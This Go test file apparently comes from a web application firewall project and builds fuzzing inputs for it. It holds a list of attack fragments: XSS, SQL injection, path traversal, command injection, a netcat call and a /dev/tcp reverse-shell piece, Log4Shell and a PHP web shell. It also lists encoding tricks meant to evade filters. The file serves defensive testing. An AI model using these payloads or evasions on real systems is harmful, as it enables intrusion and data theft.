package waf

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"html"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// What mutated exchanges are made of: pieces of attacks, pieces of answers that tell too much, and the ways to write
// the same thing otherwise.

// ownFragments are shapes that the corpus has not, or has in one spelling only: near misses above all, since a prover
// is wrong at the edge of a pattern.
var ownFragments = []string{
	`<script>alert(document.cookie)</script>`, `<svg/onload=alert(1)>`, `javascript:alert(1)`, `<a href="jav&#x09;ascript:x">`, "ſcript", "ſelect", "uniıon",
	`1' UNION SELECT username, password FROM users--`, `' or 1=1#`, `1 or 1`, `sleep(5)`, `admin'--`, `a'b`, `O'Brien and sons`, `select a from`, `"or""="`,
	`../../../../etc/passwd`, `..\..\windows\win.ini`, `/etc/./passwd`, `.htaccess`, `file:///etc/hosts`, `http://127.0.0.1/`, `//evil.example/x.php?`,
	`; cat /etc/passwd`, `$(id)`, "`id`", `| nc 192.0.2.1 4444`, `c""at /e\tc/pa?swd`, `() { :; }; id`, `cmd.exe /c dir`, `powershell -enc`, `bash -i >& /dev/tcp/1`,
	`${jndi:ldap://evil.example/a}`, `${${lower:j}ndi:x}`, `<?php system($_GET['c']); ?>`, `O:8:"stdClass":0:{}`, `php://filter`, `phpinfo()`, `base64_decode(`,
	`process.mainModule.require('child_process')`, `__proto__`, `constructor.prototype`, `{{7*7}}`, `<%= 7*7 %>`, `#{7*7}`, `java.lang.Runtime`, "rO0ABXQ", "\xac\xed\x00\x05",
	"\r\nSet-Cookie: a=b", "%0d%0aLocation: x", "HTTP/1.1 200", "\x00", "\xff\xfe", "\xc0\xaf", "%", "%u0031", "%zz", "&#60;", `\u003c`, `\x3c`, "\u2028", "＜script＞",
	"K", "0x31", "1e5", "true", "null", "", " ", "\t", "a=b", "a;b", "a[b]", "a.b", "@", "#", "*/*", "sqlmap/1.8", "nikto", "Mozilla/5.0", "/.git/config",
	"(admin=*)", "*)(uid=*", "<!--#exec cmd=x-->", "SESSIONID=1", "bytes=0-1,2-3,4-5,6-7,8-9,10-11", "../", "...//", "%2e%2e%2f", "::$DATA", "user@example.com", "2026-11-20T18:59:29Z",
}

// ownLeaks are the same for answers.
var ownLeaks = []string{
	"<title>Index of /</title>", "You have an error in your SQL syntax; check the manual", "ORA-00933: SQL command not properly ended", "Microsoft OLE DB Provider for ODBC Drivers",
	"PostgreSQL query failed: ERROR: syntax", "SQLite/JDBCDriver", "<?php echo 1; ?>", "<b>Warning</b>: mysql_fetch_array() in <b>/var/www/a.php</b> on line", "java.lang.NullPointerException",
	"at java.lang.Thread.run(Thread.java:1)", "Runtime Error</title>", "Server Error in '/' Application", "<title>r57 shell</title>", "#!/bin/sh", "root:x:0:0:root:/root:/bin/bash",
	"Dynamic Page Generation Error:", "undefined method `x' for nil:NilClass", "\x89PNG", "GIF89a", "PK\x03\x04", "error", "sql", "exception",
}

// fragments are all pieces: ours, and the values of the corpus's queries, forms, headers and cookies.
func fragments(corpus []*exchange) (attacks, leaks []string) {
	seen := map[string]bool{}
	add := func(to *[]string, text string) {
		if len(text) <= 600 && !seen[text] {
			seen[text] = true
			*to = append(*to, text)
		}
	}
	for _, text := range ownFragments {
		add(&attacks, text)
	}
	for _, text := range ownLeaks {
		add(&leaks, text)
	}
	for _, x := range corpus {
		path, query, _ := strings.Cut(x.target, "?")
		add(&attacks, path)
		for _, text := range []string{query, string(x.body)} {
			for _, pair := range strings.Split(text, "&") {
				name, value, _ := strings.Cut(pair, "=")
				add(&attacks, name)
				add(&attacks, unescaped(value))
			}
		}
		for _, f := range x.headers {
			add(&attacks, f.value)
		}
		if strings.HasPrefix(x.target, "/reflect") {
			add(&leaks, string(x.page))
		}
	}
	return attacks, leaks
}

func unescaped(s string) string {
	if plain, err := url.QueryUnescape(s); err == nil {
		return plain
	}
	return s
}

// disguises write a text otherwise, so that some of CRS's transformations, or none, make it again what it was.
var disguises = []func(r *rand.Rand, s string) string{
	func(_ *rand.Rand, s string) string { return url.QueryEscape(s) },
	func(_ *rand.Rand, s string) string { return url.PathEscape(s) },
	func(_ *rand.Rand, s string) string { return html.EscapeString(s) },
	func(_ *rand.Rand, s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	func(_ *rand.Rand, s string) string { return hex.EncodeToString([]byte(s)) },
	func(_ *rand.Rand, s string) string { return strings.ToUpper(s) },
	func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "/**/") },
	func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, " ", "\t\n ") },
	func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, "/", "/./") },
	func(_ *rand.Rand, s string) string { return "\\" + strings.ReplaceAll(s, "e", `\e`) },
	eachByte("%%%02x"), eachByte("%%u00%02x"), eachByte(`\x%02x`), eachByte(`\u00%02x`), eachByte("&#%d;"), eachByte("&#x%x;"), eachByte("%%25%02x"),
	func(r *rand.Rand, s string) string { // letter case
		b := []byte(s)
		for i, c := range b {
			if r.IntN(2) == 0 && (c|0x20) >= 'a' && (c|0x20) <= 'z' {
				b[i] = c ^ 0x20
			}
		}
		return string(b)
	},
	func(r *rand.Rand, s string) string { return insert(r, s, "\x00") },
	func(r *rand.Rand, s string) string { return insert(r, s, `""`) },
	func(r *rand.Rand, s string) string { return insert(r, s, "<!-- -->") },
	func(_ *rand.Rand, s string) string { // full-width forms
		var b strings.Builder
		for _, c := range s {
			if c > ' ' && c < 0x7f {
				c += 0xfee0
			}
			b.WriteRune(c)
		}
		return b.String()
	},
	func(r *rand.Rand, s string) string { // the same text again and again
		return strings.Repeat(s+" ", min(1+r.IntN(20), 1+2000/(len(s)+1)))
	},
}

// eachByte writes some of the bytes, or all, in this format.
func eachByte(format string) func(*rand.Rand, string) string {
	return func(r *rand.Rand, s string) string {
		share := r.IntN(3)
		var b strings.Builder
		for _, c := range []byte(s) {
			if share == 0 || r.IntN(share+1) == 0 {
				fmt.Fprintf(&b, format, c)
			} else {
				b.WriteByte(c)
			}
		}
		return b.String()
	}
}

// insert puts t somewhere into s.
func insert(r *rand.Rand, s, t string) string {
	at := r.IntN(len(s) + 1)
	return s[:at] + t + s[at:]
}

// disguised applies up to three disguises, as long as the text stays short.
func disguised(r *rand.Rand, s string) string {
	for range r.IntN(4) {
		if len(s) > 3000 {
			break
		}
		s = pick(r, disguises)(r, s)
	}
	return s
}

// noisy changes a few bytes of s.
func noisy(r *rand.Rand, s string) string {
	b := []byte(s)
	for range 1 + r.IntN(4) {
		at := r.IntN(len(b) + 1)
		switch c := interesting(r); {
		case r.IntN(3) == 0 || at == len(b):
			b = slices.Insert(b, at, c)
		case r.IntN(2) == 0:
			b = slices.Delete(b, at, at+1)
		default:
			b[at] = c
		}
	}
	return string(b)
}

func interesting(r *rand.Rand) byte {
	const often = "'\"<>()[]{}=;:,.|&$`\\/%+-*#@!?~^ \t\r\n\x00\x7f\xc5\xbf\xffaesx01"
	if r.IntN(4) == 0 {
		return byte(r.Uint32())
	}
	return often[r.IntN(len(often))]
}

func pick[T any](r *rand.Rand, all []T) T { return all[r.IntN(len(all))] }

// TestFragments: the pieces are there, and are of all kinds.
func TestFragments(t *testing.T) {
	attacks, leaks := fragments(corpusExchanges(t))
	if len(attacks) < 3000 || len(leaks) < 50 {
		t.Fatalf("%d attacks, %d leaks", len(attacks), len(leaks))
	}
	if !slices.ContainsFunc(attacks, func(s string) bool { return !utf8.ValidString(s) }) {
		t.Error("no fragment is broken UTF-8")
	}
}
